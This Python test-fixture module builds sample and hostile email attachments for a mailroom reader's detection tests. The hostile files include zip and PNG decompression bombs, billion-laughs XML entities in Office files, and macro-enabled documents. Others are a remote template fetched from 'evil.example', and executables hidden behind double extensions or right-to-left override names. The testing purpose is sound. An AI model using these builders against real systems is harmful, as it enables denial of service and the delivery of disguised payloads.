"""Attachments as citizens and as strangers send them: honest samples, and hostile files each with what must be told."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

import docx
import fontpkg_sarabun
import openpyxl
import zxingcpp
from PIL import Image, ImageDraw, ImageFont

from mailroom.domain.attachment_reading import ReadingState
from mailroom.domain.message import Attachment
from mailroom.media import media_type
from tests.support.pdf_zoo import ZOO as PDFS
from tests.support.pdf_zoo import blank, looping, saved

SLIP = "0046000600000101030140225202601051234567895102TH9104ABCD"
DEED = "สำเนาโฉนดที่ดิน เลขที่ ๑๒๓๔ ตำบลบ้านใหม่"


def file(name: str, content: bytes, part: int = 1) -> Attachment:
    """As the reader of mail describes it."""
    declared = "application/octet-stream"
    return Attachment(name, media_type(content, declared), declared, len(content), "ab" * 32, inline=False, part=part)


def zipped(members: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def changed(document: bytes, members: Mapping[str, bytes]) -> bytes:
    """A document with other members in place of its own, or beside them."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        own = {name: archive.read(name) for name in archive.namelist()}
    return zipped(own | members)


def word(*paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    table = document.add_table(1, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = "ชื่อ", "นางสาวปิ่นแก้ว"
    document.sections[0].header.paragraphs[0].text = "หัวกระดาษ"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def sheets(*rows: tuple[object, ...]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "ผู้ค้า"
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def picture(size: tuple[int, int] = (400, 300), *, code: str = "", text: str = "", form: str = "PNG") -> bytes:
    image = Image.new("RGB", size, "white")
    if code:
        made = zxingcpp.write_barcode_to_image(zxingcpp.create_barcode(code, zxingcpp.BarcodeFormat.QRCode), scale=4)
        image.paste(Image.fromarray(made), (20, 20))
    if text:
        font = ImageFont.truetype(str(fontpkg_sarabun.ROOT / "files" / "Sarabun-Regular.ttf"), 44)
        ImageDraw.Draw(image).multiline_text((60, 60), text, "black", font, spacing=24)
    buffer = io.BytesIO()
    image.save(buffer, form)
    return buffer.getvalue()


def scanned(*pictures: bytes) -> bytes:
    """A PDF whose pages are pictures."""
    images = [Image.open(io.BytesIO(one)).convert("RGB") for one in pictures]
    buffer = io.BytesIO()
    images[0].save(buffer, "PDF", save_all=True, append_images=images[1:], resolution=150)
    return buffer.getvalue()


def huge_png(width: int = 60_000, height: int = 60_000, *, whole: bool = False) -> bytes:
    """A picture of a few bytes that would unfold to gigabytes; with `whole` it is all there."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    start = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes((width + 1) * height if whole else 1000)))
    return b"\x89PNG\r\n\x1a\n" + start + chunk(b"IEND", b"")


def laughing(root: bytes) -> bytes:
    """Entities that unfold to gigabytes, within the markup of a document."""
    names = [b"<!ENTITY a0 'ha'>"]
    names += [b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)]
    return b"<?xml version='1.0'?><!DOCTYPE x [" + b"".join(names) + b"]>" + root % b"&a9;"


_BODY = b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"
_CELLS = b"<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>%s</t></is></c></row></sheetData></worksheet>"
_RELATIONS = b"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>%s</Relationships>"
_TEMPLATE = b"<Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/>"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def long_sheet(rows: int = 10_000, columns: int = 60) -> bytes:
    """A workbook that packs well and takes seconds to read."""
    cells = "".join(f"<c t='inlineStr'><is><t>{n}</t></is></c>" for n in range(columns))
    rows_of_it = "".join(f"<row>{cells}</row>" for _ in range(rows))
    markup = _CELLS.partition(b"<row")[0] + rows_of_it.encode() + b"</sheetData></worksheet>"
    return changed(
        sheets(("ก",)), {"xl/worksheets/sheet1.xml": markup, "xl/noise": random.Random(1).randbytes(1 << 20)}
    )


def with_macros() -> bytes:
    """As Word writes it, under the type of its own."""
    document = word("มีแมโคร")
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        types = archive.read("[Content_Types].xml")
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = types.replace(plain, b"application/vnd.ms-word.document.macroEnabled.main+xml")
    return changed(document, {"[Content_Types].xml": types, "word/vbaProject.bin": b"x"})


def locked_archive() -> bytes:
    """Every entry says that it wants a password."""
    content = bytearray(zipped({"a.pdf": b"secret"}))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


@dataclass(frozen=True, slots=True)
class Specimen:
    """One hostile file: what it is called, and what must be told of it."""

    name: str
    make: Callable[[], bytes]
    state: ReadingState
    codes: frozenset[str]
    """Codes among its findings."""


def _specimen(name: str, make: Callable[[], bytes], state: ReadingState, *codes: str) -> Specimen:
    return Specimen(name, make, state, frozenset(codes))


READ, NOTHING, DAMAGED = ReadingState.READ, ReadingState.NOTHING, ReadingState.DAMAGED
ENCRYPTED, TOO_LARGE, UNSUPPORTED = ReadingState.ENCRYPTED, ReadingState.TOO_LARGE, ReadingState.UNSUPPORTED

ZOO: Mapping[str, Specimen] = {
    "zip bomb": _specimen("แบบ.zip", lambda: zipped({"a": bytes(60 << 20)}), READ, "archive-bomb"),
    "zip in zip": _specimen("ชุด.zip", lambda: zipped({"x/b.zip": zipped({"c": b"d"})}), READ, "archive-nested"),
    "zip with a program": _specimen("ชุด.zip", lambda: zipped({"x/โฉนด.pdf.exe": b"MZ"}), READ, "archive-runs"),
    "locked zip": _specimen("ชุด.zip", locked_archive, ENCRYPTED, "encrypted"),
    "cut zip": _specimen("ชุด.zip", lambda: zipped({"a": b"b" * 999})[:60], DAMAGED),
    "bomb in docx": _specimen(
        "คำขอ.docx", lambda: changed(word("ก"), {"word/document.xml": bytes(60 << 20)}), TOO_LARGE, "archive-bomb"
    ),
    "laughs in docx": _specimen(
        "คำขอ.docx", lambda: changed(word("ก"), {"word/document.xml": laughing(_BODY)}), DAMAGED, "xml-entities"
    ),
    "laughs in wide letters": _specimen(
        "คำขอ.docx",
        lambda: changed(word("ก"), {"word/document.xml": laughing(_BODY).decode().encode("utf-16")}),
        DAMAGED,
    ),
    "laughs in xlsx": _specimen(
        "บัญชี.xlsx",
        lambda: changed(sheets(("ก",)), {"xl/worksheets/sheet1.xml": laughing(_CELLS)}),
        DAMAGED,
        "xml-entities",
    ),
    "macros": _specimen("คำขอ.docm", with_macros, READ, "macros"),
    "macros under a plain name": _specimen("คำขอ.docx", with_macros, READ, "macros"),
    "remote template": _specimen(
        "คำขอ.docx",
        lambda: changed(word("ก"), {"word/_rels/settings.xml.rels": _RELATIONS % _TEMPLATE}),
        READ,
        "external-links",
    ),
    "object within": _specimen(
        "คำขอ.docx", lambda: changed(word("ก"), {"word/embeddings/o.bin": b"x"}), READ, "embedded-objects"
    ),
    "cut docx": _specimen("คำขอ.docx", lambda: word("ก")[:-200], DAMAGED),
    "locked document": _specimen(
        "คำขอ.docx", lambda: _OLE + "EncryptedPackage".encode("utf-16-le"), ENCRYPTED, "encrypted"
    ),
    "old workbook with macros": _specimen(
        "บัญชี.xls",
        lambda: _OLE + "Workbook".encode("utf-16-le") + "_VBA_PROJECT_CUR".encode("utf-16-le"),
        UNSUPPORTED,
        "macros",
    ),
    "rich text with an object": _specimen(
        "คำขอ.rtf", lambda: rb"{\rtf1{\object\objdata 0105}}", UNSUPPORTED, "embedded-objects"
    ),
    "picture bomb": _specimen("รูป.png", huge_png, TOO_LARGE, "picture-bomb"),
    "large picture": _specimen("รูป.png", lambda: huge_png(9500, 9500), TOO_LARGE, "picture-bomb"),
    "cut picture": _specimen("รูป.jpg", lambda: picture(form="JPEG")[:900], DAMAGED),
    "script in a PDF": _specimen("a.pdf", PDFS["script on opening"][0], NOTHING, "pdf-javascript", "pdf-on-opening"),
    "launch in a PDF": _specimen("a.pdf", PDFS["launch"][0], NOTHING, "pdf-launch"),
    "files in a PDF": _specimen("a.pdf", PDFS["attached file"][0], NOTHING, "pdf-embedded-files"),
    "locked PDF": _specimen("a.pdf", PDFS["reader's password"][0], ENCRYPTED, "encrypted"),
    "PDF behind a program": _specimen("a.pdf", PDFS["prefix"][0], NOTHING, "pdf-prefixed"),
    "looping PDF": _specimen("a.pdf", looping, DAMAGED),
    "cut PDF": _specimen("a.pdf", lambda: saved(blank())[:60], DAMAGED),
    "double ending": _specimen("โฉนด.pdf.exe", lambda: b"MZ" + bytes(400), UNSUPPORTED, "double-extension"),
    "turned name": _specimen("โฉนด<U+202E>fdp.exe", lambda: b"MZ" + bytes(400), UNSUPPORTED, "rtlo-name"),
    "program as a PDF": _specimen(
        "โฉนด.pdf", lambda: b"MZ" + bytes(400), UNSUPPORTED, "type-differs", "executable-content"
    ),
    "slides with macros": _specimen(
        "นำเสนอ.pptx",
        lambda: zipped(
            {"[Content_Types].xml": b"<Types/>", "ppt/slides/slide1.xml": b"<p/>", "ppt/vbaProject.bin": b"x"}
        ),
        UNSUPPORTED,
        "macros",
    ),
    "page as a picture": _specimen(
        "รูป.jpg", lambda: b"<html><script>alert(1)</script>hi</html>", READ, "type-differs", "page-script"
    ),
    "text as a PDF": _specimen("โฉนด.pdf", lambda: "ข้อความ".encode(), READ, "type-differs"),
}
